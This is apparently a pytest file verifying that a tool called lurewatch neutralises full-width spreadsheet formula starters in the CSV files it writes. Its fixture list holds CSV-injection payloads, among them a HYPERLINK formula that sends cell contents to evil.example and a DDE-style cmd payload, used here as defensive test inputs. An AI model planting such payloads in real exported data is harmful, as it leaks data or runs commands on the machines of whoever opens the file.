"""Full-width formula starters (`＝HYPERLINK(...)`, `＋`, `－`, `＠`) are neutralised in every CSV lurewatch writes
(issue 12, item 15): some spreadsheets fold them to `= + - @` and run the cell."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from features import FeatureExtractor
from lurewatch.csv_safety import neutralise, neutralise_value
from pipeline.csv_scoring import score_csv_file
from pipeline.scoring_model import ScoringModel

FULL_WIDTH = ['＝HYPERLINK("http://evil.example/?x="&A1,"Apply")', "＋1+cmd|' /C calc'!A0", "－2+3", "＠SUM(A1:A9)",
              "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)"]


@pytest.mark.parametrize("cell", FULL_WIDTH)
def test_full_width_and_small_formula_starters_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise_value(cell) == "'" + cell


def test_ordinary_cells_are_left_alone() -> None:
    for cell in ["", "Ｗork in Ｒiga", "3000 EUR", "e-mail: a@b.lv", "１２３"]:
        assert neutralise(cell) == cell


def test_scored_csv_neutralises_full_width_formulas(champion: ScoringModel, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["company", "text"])
        writer.writerows([[cell, cell] for cell in FULL_WIDTH])
    score_csv_file(champion, FeatureExtractor(), source, tmp_path / "out.csv")
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8", newline="")))
    assert [r["company"] for r in rows] == ["'" + c for c in FULL_WIDTH]
    assert [r["text"] for r in rows] == ["'" + c for c in FULL_WIDTH]
